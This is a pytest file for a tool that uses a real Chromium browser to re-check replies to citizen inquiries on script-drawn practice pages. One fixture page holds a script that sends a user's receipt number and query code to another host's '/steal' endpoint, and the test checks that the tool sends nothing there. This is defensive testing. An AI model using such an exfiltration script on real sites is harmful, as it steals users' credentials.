"""The re-check with a real Chromium: pages and look-ups that only a script draws and sends."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import AbstractContextManager, nullcontext

import pytest

from huiying.model import Inquiry, Question, Receipt, Site, State
from huiying.probe.browser import ChromiumBrowser, Patience
from huiying.probe.fetch import Fetcher
from huiying.probe.recheck import Recheck, Seen, recheck
from tests.fakes import FakeChallenger, FakeClock, FakeVault
from tests.practice_site import Answer, PracticeSite, practice_site
from tests.rounds import monday

pytestmark = pytest.mark.browser

TITLE = "社保卡丢失后如何补办"
BODY = "您好,我的社保卡不慎丢失,请问补办需要带哪些材料,到哪里办理?谢谢。"
REPLY = "您好,请您携带本人有效身份证到合作银行任一网点办理社保卡补卡,当场领取。"
LETTER = {"title": TITLE, "asked": "2024-02-05 09:10", "reply": REPLY, "at": "2024-02-06 10:00"}
DRAW = """function row(k, v){return '<tr><td>' + k + '</td><td>' + v + '</td></tr>';}
function draw(d){document.getElementById('app').innerHTML = '<table>' + row('标题', d.title) + row('来信时间', d.asked)
 + row('回复时间', d.at) + row('回复内容', d.reply) + '</table>';}"""


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ChromiumBrowser]:
    with ChromiumBrowser(folder=tmp_path_factory.mktemp("browsers"), patience=Patience(page=6, press=5)) as browser:
        yield browser


@pytest.fixture
def site() -> Iterator[PracticeSite]:
    with practice_site() as found:
        yield found


def visit(site: PracticeSite, chromium: ChromiumBrowser, channel: str) -> Recheck:
    inquiry = Inquiry(
        id=1, round_id=1, question=Question(id=1, title=TITLE, body=BODY, keywords=("身份证",)), state=State.SUBMITTED, alias="a@b.cn",
        site=Site(id=1, order=1, name="杞县", home_url=f"{site.url}/", hosts=(site.host,), channel_url=f"{site.url}{channel}"),
        title=TITLE, body=BODY, asked_at=monday(), receipt=Receipt(number="ZX01", query_code="1234"),
    )  # fmt: skip
    clock = FakeClock(monday(18))

    def factory() -> AbstractContextManager[ChromiumBrowser]:
        return nullcontext(chromium)

    with Fetcher(seconds=5, attempts=1) as fetcher:
        return recheck(
            inquiry, ways=None, fetcher=fetcher, browser_factory=factory, challenger=FakeChallenger(),
            vault=FakeVault(clock), clock=clock, folder="x",
        )  # fmt: skip


def test_a_look_up_without_a_form_is_typed_and_clicked(site: PracticeSite, chromium: ChromiumBrowser) -> None:
    site.pages["/"] = Answer("<p>首页</p>")
    site.pages["/cx.html"] = Answer(
        f"""<meta charset="utf-8"><h2>信件查询</h2><div>编号：<input id="bh"> 查询码：<input id="cxm">
        <a href="javascript:;" id="go">查 询</a></div><div id="app">请输入编号和查询码后点击查询,编号见提交成功后的提示。</div>
        <p>{"查询说明文字。" * 12}</p><script>{DRAW}
        document.getElementById('go').onclick = function(){{var x = new XMLHttpRequest(); x.open('POST', '/api/query');
        x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded'); x.onload = function(){{draw(JSON.parse(x.responseText));}};
        x.send('bh=' + bh.value + '&cxm=' + cxm.value);}};</script>"""
    )
    site.on_post = lambda path, fields: Answer(json.dumps(LETTER), type="application/json")
    (seen,) = visit(site, chromium, "/cx.html").items
    assert isinstance(seen, Seen)
    assert seen.reading.text == REPLY
    assert seen.reading.answered_at
    assert seen.reading.answered_at.at.isoformat() == "2024-02-06T10:00:00+08:00"
    assert site.posts == [("/api/query", {"bh": "ZX01", "cxm": "1234"})]


def test_a_look_up_by_script_to_another_host_sends_nothing(site: PracticeSite, chromium: ChromiumBrowser) -> None:
    with practice_site() as other:
        site.pages["/"] = Answer("<p>首页</p>")
        site.pages["/cx.html"] = Answer(
            f"""<meta charset="utf-8"><div>编号：<input id="bh"> 查询码：<input id="cxm"><button type="button" id="go">查询</button></div>
            <p>{"查询说明文字。" * 12}</p><script>go.onclick = function(){{fetch('{other.url}/steal',
            {{method: 'POST', body: bh.value + cxm.value}});}};</script>"""
        )
        items = visit(site, chromium, "/cx.html").items
        assert not any(isinstance(item, Seen) for item in items)
        assert other.posts == []


def test_a_page_drawn_by_a_script_is_read_as_it_is_drawn(site: PracticeSite, chromium: ChromiumBrowser) -> None:
    site.pages["/"] = Answer(
        f"""<meta charset="utf-8"><div id="app"></div><script>{DRAW}
        fetch('/api/letter').then(r => r.json()).then(draw);</script>"""
    )
    site.pages["/api/letter"] = Answer(json.dumps(LETTER), type="application/json")
    items = visit(site, chromium, "/").items
    assert [item.reading.text for item in items if isinstance(item, Seen)] == [REPLY]
